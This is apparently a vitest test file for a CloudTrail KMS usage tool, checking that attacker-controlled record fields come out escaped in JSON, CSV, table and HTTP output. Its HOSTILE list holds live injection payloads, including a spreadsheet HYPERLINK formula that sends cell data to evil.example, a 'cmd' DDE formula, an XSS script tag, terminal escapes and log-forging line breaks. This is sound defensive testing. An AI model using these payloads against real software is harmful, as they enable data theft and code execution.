import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { UsageRow } from '../../src/history/query/questions.ts';
import { aDecrypt, aKmsRecord, aRole } from '../builders/cloud-trail-record.ts';
import { guid } from '../oracle/universe.ts';
import { keytrail } from './keytrail.ts';
import { aFolder, serving } from './keytrail-process.ts';

/** Texts as an attacker would have them recorded. */
const HOSTILE: readonly string[] = [
  '\u001b[31mred\u001b]0;title\u0007\u009b2J',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'line\r\nend\n2026-03-01T10:00:00Z  Forged  success',
  '"quoted","cells",""',
  'right\u202eto left\u2066\u2069\u200f',
  'nul\0byte',
  'half \ud83d a pair \udc00',
  '\u2028\u2029\ufeff\u00ad\u{e0041}',
  '__proto__',
  'constructor',
  '{{7*7}}%s%n',
  `long ${'x'.repeat(10_000)}`,
  `wide ${'€'.repeat(3_000)}`,
];

/** All control characters but LF, and what moves or hides text. */
function actedOn(text: string): string[] {
  const shown = text.replaceAll('\n', '');
  return [...new Set(shown.match(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/gu))].map(
    (character) => `U+${character.codePointAt(0)?.toString(16)}`,
  );
}

const ACCOUNT = '111122223333';

/** One record for each text, with it wherever a caller could have it. */
function hostileRecords(): object[] {
  return HOSTILE.flatMap((text, index) => [
    aDecrypt({
      eventID: guid('hostile', index),
      eventTime: `2026-03-01T10:00:${String(index).padStart(2, '0')}Z`,
      errorCode: text,
      errorMessage: text,
      userAgent: text,
      sourceIPAddress: text,
      vpcEndpointId: text,
      requestParameters: {
        encryptionContext: JSON.parse(`{${JSON.stringify(text)}:${JSON.stringify(text)}}`),
      },
      by: aRole({
        arn: `arn:aws:sts::${ACCOUNT}:assumed-role/Trainer/${text}`,
        sessionContext: { sourceIdentity: text },
      }),
    }),
    aKmsRecord('DescribeKey', {
      eventID: guid('hostile alias', index),
      eventTime: `2026-03-01T11:00:${String(index).padStart(2, '0')}Z`,
      resources: undefined,
      requestParameters: { keyId: `alias/${text}` },
    }),
  ]);
}

/** As it must come back: well-formed, and at most 4 KB of UTF-8 in whole characters. */
function bounded(text: string): string {
  let bytes = 0;
  let whole = '';
  for (const character of text.toWellFormed()) {
    bytes += Buffer.byteLength(character);
    if (bytes > 4096) break;
    whole += character;
  }
  return whole;
}

function expectRows(rows: readonly UsageRow[]): void {
  expect(rows).toHaveLength(2 * HOSTILE.length);
  HOSTILE.forEach((text, index) => {
    const row = rows.find(({ eventId }) => eventId === guid('hostile', index));
    const whole = text.toWellFormed();
    const cut = bounded(text);
    expect(row).toMatchObject({ errorCode: cut, userAgent: cut, sourceIp: cut, vpcEndpointId: cut });
    expect(row?.principal).toMatchObject({ session: cut, sourceIdentity: cut });
    // A context is whole always; own members, for one may be named `__proto__`.
    expect(Object.entries(row?.encryptionContext ?? {})).toEqual([[whole, whole]]);
    const wasCut = cut !== whole;
    expect(row?.truncated?.includes('userAgent') ?? false).toBe(wasCut);
    expect(row?.truncated?.includes('principal.session') ?? false).toBe(wasCut);
    const alias = rows.find(({ eventId }) => eventId === guid('hostile alias', index));
    expect(alias?.keyRef).toBe(bounded(`alias/${text}`));
    expect(alias?.truncated ?? []).toEqual(wasCut ? ['keyRef'] : []);
  });
}

/** RFC 4180, read independently of what wrote it. */
function cellsOf(csv: string): string[][] {
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\n]*))(,|\n|$)/g)) {
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\n') lines.push([]);
  }
  return lines.filter((cells) => cells.length > 1);
}

describe('records of an attacker', () => {
  test('come back exact in JSON and harmless in what is shown', async () => {
    const data = aFolder();
    const logs = aFolder();
    writeFileSync(join(logs, 'log.json'), JSON.stringify({ Records: hostileRecords() }));
    const imported = await keytrail(['import', logs, '--json'], { env: { KEYTRAIL_DATA: data } });
    expect(imported).toMatchObject({ code: 0, stderr: '' });
    expect(JSON.parse(imported.stdout)).toMatchObject({ usageRows: 2 * HOSTILE.length, quarantinedCount: 0 });

    const [json, ndjson, csv, table] = await Promise.all(
      ['json', 'ndjson', 'csv', 'table'].map((format) =>
        keytrail(['usage', '--format', format], { env: { KEYTRAIL_DATA: data } }),
      ),
    );
    for (const answer of [json, ndjson, csv, table]) {
      expect(answer).toMatchObject({ code: 0, stderr: '' });
      expect(actedOn(answer?.stdout ?? '')).toEqual([]);
    }
    expectRows(JSON.parse(json?.stdout ?? ''));
    expectRows(
      (ndjson?.stdout ?? '')
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line)),
    );
    // A line each and a header: no text of a record made one.
    expect(table?.stdout.trimEnd().split('\n')).toHaveLength(2 * HOSTILE.length + 2);
    const cells = cellsOf(csv?.stdout ?? '');
    expect(cells).toHaveLength(2 * HOSTILE.length + 1);
    expect(new Set(cells.map(({ length }) => length)).size).toBe(1);
    expect(cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const server = await serving(data);
    const answer = await fetch(`${server.url}/v1/usage?limit=1000`);
    expect(answer.headers.get('content-type')).toBe('application/json');
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    const { items } = (await answer.json()) as { items: UsageRow[] };
    expectRows(items);
    for (const text of HOSTILE) {
      const principal = encodeURIComponent(text.toWellFormed());
      const filtered = await fetch(`${server.url}/v1/usage?principal=${principal}&key=${principal}`);
      expect([200, 400]).toContain(filtered.status);
      await filtered.json();
    }
    server.process.kill('SIGTERM');
    const { code, stderr } = await server.ended;
    expect(code).toBe(0);
    expect(actedOn(stderr)).toEqual([]);
    expect(stderr.trimEnd().split('\n')).toHaveLength(2);
  });

  test('are not quoted where they go to quarantine, and names of files are shown escaped', async () => {
    const data = aFolder();
    const logs = aFolder();
    const name = 'evil \u001b[31m\u202e=1+1\n"\u009b.json';
    const broken = HOSTILE.map((text, index) =>
      aKmsRecord('Decrypt', { eventID: guid('refused', index), eventTime: text, userAgent: text }),
    );
    writeFileSync(join(logs, name), JSON.stringify(broken));
    const missing = join(logs, 'not there \u001b[2J\n\u202e.json');

    const words = await keytrail(['import', logs, missing], { env: { KEYTRAIL_DATA: data } });
    expect(words.code).toBe(1);
    expect(actedOn(words.stdout)).toEqual([]);
    expect(actedOn(words.stderr)).toEqual([]);
    expect(words.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(words.stdout).toMatch(new RegExp(`${HOSTILE.length} could not be understood`));

    const json = await keytrail(['import', logs, '--json'], { env: { KEYTRAIL_DATA: data } });
    expect(json).toMatchObject({ code: 0, stderr: '' });
    expect(actedOn(json.stdout)).toEqual([]);
    const { quarantined } = JSON.parse(json.stdout);
    expect(quarantined[0]).toEqual({
      source: `${join(logs, name)}#0`,
      reason: 'The eventTime of the record is missing or is not a time.',
    });
    expect(JSON.stringify(quarantined)).not.toMatch(/HYPERLINK|script|calc/);
  });
});
